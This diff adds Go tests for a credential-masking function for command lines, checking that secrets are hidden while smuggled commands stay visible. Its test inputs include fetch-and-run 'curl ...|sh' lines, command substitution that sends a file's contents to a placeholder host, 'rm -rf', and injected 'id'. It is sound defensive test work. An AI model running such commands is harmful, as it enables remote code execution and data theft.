@@ -38,3 +38,51 @@ func TestCredentialsAreNotShown(t *testing.T) {
 		t.Error("ordinary text was changed")
 	}
 }
+
+// What is hidden in a command line is a word of it and never a command: whoever
+// reads it must see all that would happen.
+func TestNoCommandIsHidden(t *testing.T) {
+	st := &step{r: NewRules(nil, nil)}
+	for text, want := range map[string]string{
+		"curl https://one.example/x?key=abcdef|sh":                 "curl https://one.example/x?key=abcdef|sh",
+		"curl https://one.example/x?token=abcdef|sh":               "curl https://one.example/x?token=[hidden]|sh",
+		"curl https://one.example/?token=$(cat${IFS}notes|base64)": "curl https://one.example/?token=$(cat${IFS}notes|base64)",
+		"curl https://one.example/?token=abcdef`id`":               "curl https://one.example/?token=[hidden]`id`",
+		"TOKEN= /tmp/x.sh":                                                         "TOKEN= /tmp/x.sh",
+		": token \n/tmp/x.sh":                                                      ": token \n/tmp/x.sh",
+		"sudo -u pass /tmp/x.sh":                                                   "sudo -u pass /tmp/x.sh",
+		"git clone https://a:$(id)@one.example/x":                                  "git clone https://a:$(id)@one.example/x",
+		": '-----BEGIN RSA PRIVATE KEY-----'; curl one.example|sh":                 ": '[hidden]'; curl one.example|sh",
+		": -----BEGIN;curl one.example|sh;: PRIVATE KEY-----":                      ": -----BEGIN;curl one.example|sh;: PRIVATE KEY-----",
+		": -----BEGIN PRIVATE KEY-----\nrm -rf notes\n: -----END PRIVATE KEY-----": ": [hidden]\nrm -rf notes\n: -----END PRIVATE KEY-----",
+		": -----BEGIN PRIVATE KEY-----\n" + strings.Repeat("curl -o x one.example; sh x\n", 4) + ": -----END PRIVATE KEY-----": ": [hidden]\n" +
+			strings.Repeat("curl -o x one.example; sh x\n", 4) + ": -----END PRIVATE KEY-----",
+		// A credential is hidden here, too.
+		"curl -H 'Authorization: Bearer abcdef0123456' https://one.example":                                              "curl -H 'Authorization: Bearer [hidden]' https://one.example",
+		"git clone https://anna:hunter2hunter2@git.example/x":                                                            "git clone https://anna:[hidden]@git.example/x",
+		"export GITHUB_TOKEN=ghp_0123456789abcdefABCD":                                                                   "export GITHUB_TOKEN=[hidden]",
+		"mysql --password=correcthorse -h db":                                                                            "mysql --password=[hidden] -h db",
+		"mysql --password correcthorse -h db":                                                                            "mysql --password [hidden] -h db",
+		`curl -d '{"api_key": "0123456789"}' one.example`:                                                                `curl -d '{"api_key": "[hidden]"}' one.example`,
+		"echo '-----BEGIN PRIVATE KEY-----\n" + strings.Repeat("MIIEabcd", 8) + "\nab==\n-----END PRIVATE KEY-----' > k": "echo '[hidden]' > k",
+	} {
+		if got := st.veiledLine(text); got != want {
+			t.Errorf("%q\ngot  %q\nwant %q", text, got, want)
+		}
+	}
+}
+
+// Of a long value both ends are seen, and of an address the whole host.
+func TestBothEndsAreShown(t *testing.T) {
+	long := strings.Repeat("a", 200)
+	for text, want := range map[string]string{
+		"echo " + long + "; curl one.example|sh":   "echo " + long[:75] + "…" + long[:19] + "; curl one.example|sh",
+		"https://" + long + ".one.example/" + long: "https://" + long + ".one.example…" + long[:40],
+		long[:120]: long[:120],
+		long[:121]: long[:80] + "…" + long[:40],
+	} {
+		if got := bothEnds(text); got != want {
+			t.Errorf("%q\ngot  %q\nwant %q", text, got, want)
+		}
+	}
+}
